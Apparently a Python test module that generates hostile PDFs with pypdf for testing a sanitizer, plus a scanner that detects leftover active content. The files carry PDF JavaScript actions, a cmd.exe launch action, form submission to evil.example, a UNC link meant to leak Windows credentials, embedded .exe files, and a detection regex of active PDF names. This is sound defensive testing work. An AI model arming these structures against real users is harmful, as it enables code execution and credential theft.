"""A corpus of hostile PDFs, made with pypdf here rather than committed as binaries, and a way to tell what's left.

Each technique is a function giving the bytes of a one-page PDF that would run, open, submit, launch or carry
something, with its own marker text (`marker(name)`) in the payload. `leftovers(content)` reads a file the
way a suspicious reader would (the raw bytes and every stream decoded) and lists what is still there: the
marker, an active name, a `javascript:` link.
"""

import io
import re
import zlib

from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

PAGE_TEXT = "Legitimate paper text"


def marker(name):
    return f"HOSTILE-{name}"


def N(name):
    return NameObject(name)


def S(text):
    return TextStringObject(text)


def D(**entries):
    return DictionaryObject({N("/" + key): value for key, value in entries.items()})


def _page(writer):
    """A page with real text on it, so a test can see the legitimate content survive."""
    page = writer.add_blank_page(width=595, height=842)
    font = D(Type=N("/Font"), Subtype=N("/Type1"), BaseFont=N("/Helvetica"))
    page[N("/Resources")] = D(Font=D(F1=writer._add_object(font)))
    content = DecodedStreamObject()
    content.set_data(f"BT /F1 12 Tf 72 720 Td ({PAGE_TEXT}) Tj ET".encode())
    page[N("/Contents")] = writer._add_object(content)
    return page


def _js(writer, name, *, compressed=False):
    if compressed:
        stream = StreamObject()
        stream._data = zlib.compress(f"app.alert('{marker(name)}');".encode())
        stream[N("/Filter")] = N("/FlateDecode")
        script = writer._add_object(stream)
    else:
        script = S(f"app.alert('{marker(name)}');")
    return writer._add_object(D(Type=N("/Action"), S=N("/JavaScript"), JS=script))


def _rect():
    return ArrayObject([FloatObject(72), FloatObject(600), FloatObject(300), FloatObject(640)])


def _annotate(writer, page, annotation):
    annotation.setdefault(N("/Rect"), _rect())
    annotation.setdefault(N("/Type"), N("/Annot"))
    ref = writer._add_object(annotation)
    page[N("/Annots")] = ArrayObject([*page.get("/Annots", []), ref])
    return ref


def _link(writer, page, action):
    return _annotate(writer, page, D(Subtype=N("/Link"), A=action))


def _bytes(writer):
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def open_action_javascript():
    writer = PdfWriter()
    _page(writer)
    writer._root_object[N("/OpenAction")] = _js(writer, "open_action_javascript")
    return _bytes(writer)


def document_level_script():
    writer = PdfWriter()
    _page(writer)
    tree = D(Names=ArrayObject([S("run"), _js(writer, "document_level_script")]))
    writer._root_object[N("/Names")] = writer._add_object(D(JavaScript=writer._add_object(tree)))
    return _bytes(writer)


def page_open_action():
    writer = PdfWriter()
    page = _page(writer)
    page[N("/AA")] = D(O=_js(writer, "page_open_action"))
    return _bytes(writer)


def link_uri_chained_to_script():
    """The attack that got through: a harmless web link whose /Next runs a script."""
    writer = PdfWriter()
    page = _page(writer)
    step = _js(writer, "link_uri_chained_to_script")
    _link(writer, page, D(S=N("/URI"), URI=S("https://example.org/"), Next=step))
    return _bytes(writer)


def goto_chained_to_an_array_of_steps():
    writer = PdfWriter()
    page = _page(writer)
    web = D(S=N("/URI"), URI=S("https://example.org/ok"))
    nested = D(S=N("/URI"), URI=S("https://example.org/two"), Next=_js(writer, "goto_chained_to_an_array_of_steps"))
    goto = D(S=N("/GoTo"), D=ArrayObject([page.indirect_reference, N("/Fit")]), Next=ArrayObject([web, nested]))
    _link(writer, page, goto)
    return _bytes(writer)


def javascript_link():
    writer = PdfWriter()
    page = _page(writer)
    _link(writer, page, D(S=N("/URI"), URI=S(f"JaVa\tScRiPt:app.alert('{marker('javascript_link')}')")))
    _link(writer, page, D(S=N("/URI"), URI=S(f" javascript:void('{marker('javascript_link')}')")))
    return _bytes(writer)


def launch_action():
    writer = PdfWriter()
    page = _page(writer)
    _link(writer, page, D(S=N("/Launch"), F=S("cmd.exe"), Win=D(F=S("cmd.exe"), P=S(marker("launch_action")))))
    return _bytes(writer)


def submit_form():
    writer = PdfWriter()
    page = _page(writer)
    target = D(FS=N("/URL"), F=S(f"https://evil.example/{marker('submit_form')}"))
    _link(writer, page, D(S=N("/SubmitForm"), F=target, Flags=NumberObject(4)))
    return _bytes(writer)


def import_data():
    writer = PdfWriter()
    page = _page(writer)
    _link(writer, page, D(S=N("/ImportData"), F=S(f"{marker('import_data')}.fdf")))
    return _bytes(writer)


def remote_goto():
    """A link to a file on someone's share: opening it leaks the reader's Windows credentials."""
    writer = PdfWriter()
    page = _page(writer)
    _link(writer, page, D(S=N("/GoToR"), F=S(f"\\\\evil.example\\share\\{marker('remote_goto')}.pdf"),
                          D=ArrayObject([NumberObject(0), N("/Fit")])))  # fmt: skip
    _link(writer, page, D(S=N("/GoToE"), T=D(R=N("/C"), N=S(marker("remote_goto")))))
    return _bytes(writer)


def embedded_file():
    writer = PdfWriter()
    _page(writer)
    writer.add_attachment(f"{marker('embedded_file')}.exe", f"MZ {marker('embedded_file')}".encode())
    return _bytes(writer)


def file_attachment_annotation():
    writer = PdfWriter()
    page = _page(writer)
    payload = DecodedStreamObject()
    payload.set_data(f"MZ {marker('file_attachment_annotation')}".encode())
    payload[N("/Type")] = N("/EmbeddedFile")
    spec = D(Type=N("/Filespec"), F=S("invoice.exe"), EF=D(F=writer._add_object(payload)))
    _annotate(writer, page, D(Subtype=N("/FileAttachment"), FS=writer._add_object(spec)))
    return _bytes(writer)


def form_with_xfa_and_field_scripts():
    writer = PdfWriter()
    page = _page(writer)
    xfa = DecodedStreamObject()
    xfa.set_data(
        f"<xdp:xdp><script>app.alert('{marker('form_with_xfa_and_field_scripts')}')</script></xdp:xdp>".encode()
    )
    field = D(Subtype=N("/Widget"), FT=N("/Tx"), T=S("name"),
              AA=D(K=_js(writer, "form_with_xfa_and_field_scripts")),
              A=_js(writer, "form_with_xfa_and_field_scripts"))  # fmt: skip
    field_ref = _annotate(writer, page, field)
    writer._root_object[N("/AcroForm")] = writer._add_object(
        D(Fields=ArrayObject([field_ref]), XFA=writer._add_object(xfa))
    )
    return _bytes(writer)


def outline_script():
    writer = PdfWriter()
    _page(writer)
    item = writer.add_outline_item(title="Contents", page_number=0)
    item.get_object()[N("/A")] = _js(writer, "outline_script")
    return _bytes(writer)


def annotation_mouse_over_script():
    writer = PdfWriter()
    page = _page(writer)
    link = D(Subtype=N("/Link"), A=D(S=N("/URI"), URI=S("https://example.org/")),
             AA=D(E=_js(writer, "annotation_mouse_over_script")))  # fmt: skip
    _annotate(writer, page, link)
    return _bytes(writer)


def document_close_script():
    writer = PdfWriter()
    _page(writer)
    writer._root_object[N("/AA")] = D(WC=_js(writer, "document_close_script"))
    return _bytes(writer)


def rich_media_and_screen_rendition():
    writer = PdfWriter()
    page = _page(writer)
    content = D(Assets=D(Names=ArrayObject([S("movie.swf"), S(marker("rich_media_and_screen_rendition"))])))
    _annotate(writer, page, D(Subtype=N("/RichMedia"), RichMediaContent=content))
    script = S(f"app.alert('{marker('rich_media_and_screen_rendition')}')")
    rendition = D(S=N("/Rendition"), OP=NumberObject(0), JS=script)
    _annotate(writer, page, D(Subtype=N("/Screen"), A=rendition))
    _annotate(writer, page, D(Subtype=N("/3D"), Contents=S(marker("rich_media_and_screen_rendition"))))
    return _bytes(writer)


def compressed_script():
    writer = PdfWriter()
    _page(writer)
    writer._root_object[N("/OpenAction")] = _js(writer, "compressed_script", compressed=True)
    return _bytes(writer)


def encrypted_with_empty_password():
    writer = PdfWriter()
    _page(writer)
    writer._root_object[N("/OpenAction")] = _js(writer, "encrypted_with_empty_password")
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    return _bytes(writer)


def script_added_by_incremental_update():
    """A clean file with a later revision appended that adds an open action: readers apply the latest."""
    writer = PdfWriter()
    _page(writer)
    original = _bytes(writer)
    update = PdfWriter(io.BytesIO(original), incremental=True)
    update._root_object[N("/OpenAction")] = _js(update, "script_added_by_incremental_update")
    return _bytes(update)


def standalone_action_under_an_odd_key():
    """A script action hung under a key no viewer reads, typed as an action so that a tool might run it."""
    writer = PdfWriter()
    page = _page(writer)
    page[N("/PieceInfo")] = D(Evil=D(Private=_js(writer, "standalone_action_under_an_odd_key")))
    return _bytes(writer)


TECHNIQUES = {
    function.__name__: function
    for function in (
        open_action_javascript,
        document_level_script,
        page_open_action,
        link_uri_chained_to_script,
        goto_chained_to_an_array_of_steps,
        javascript_link,
        launch_action,
        submit_form,
        import_data,
        remote_goto,
        embedded_file,
        file_attachment_annotation,
        form_with_xfa_and_field_scripts,
        outline_script,
        annotation_mouse_over_script,
        document_close_script,
        rich_media_and_screen_rendition,
        compressed_script,
        encrypted_with_empty_password,
        script_added_by_incremental_update,
        standalone_action_under_an_odd_key,
    )
}


def benign_with_links():
    """A paper as partners send them: text, a web link, a mail link and a jump to its own page."""
    writer = PdfWriter()
    page = _page(writer)
    _link(writer, page, D(S=N("/URI"), URI=S("https://www.gov.uk/government/collections/prevent-duty")))
    _link(writer, page, D(S=N("/URI"), URI=S("mailto:prevent@example.org")))
    _link(writer, page, D(S=N("/GoTo"), D=ArrayObject([page.indirect_reference, N("/Fit")])))
    return _bytes(writer)


ACTIVE_NAMES = re.compile(
    rb"/(JavaScript|JS|Launch|SubmitForm|ImportData|GoToR|GoToE|OpenAction|AA|EmbeddedFiles?|XFA|AcroForm"
    rb"|RichMedia\w*|Rendition|FileAttachment|Sound|Movie|Screen|3D)(?![A-Za-z0-9#_.-])"
)


def everything_in(content):
    """The file as a suspicious reader sees it: its bytes and every stream in it decoded."""
    parts = [content]
    reader = PdfReader(io.BytesIO(content), strict=False)
    if reader.is_encrypted:
        reader.decrypt("")
    for generation, numbers in reader.xref.items():
        for number in numbers:
            try:
                obj = reader.get_object(number)
            except Exception:  # an object pypdf cannot read is still in the bytes above
                obj = None
            if isinstance(obj, StreamObject):
                try:
                    parts.append(obj.get_data())
                except Exception:
                    parts.append(obj._data or b"")
            parts.append(repr(obj).encode(errors="replace"))
        del generation
    return b"\n".join(parts)


def leftovers(content, name=None):
    """What a cleaned file still holds that it should not: markers, active names, javascript: links."""
    text = everything_in(content)
    found = sorted({match.group(0).decode() for match in ACTIVE_NAMES.finditer(text)})
    if re.search(rb"java\s*script\s*:", text, re.IGNORECASE):
        found.append("javascript: link")
    names = [name] if name else list(TECHNIQUES)
    found += [marker(n) for n in names if marker(n).lower().encode() in text.lower()]
    return found
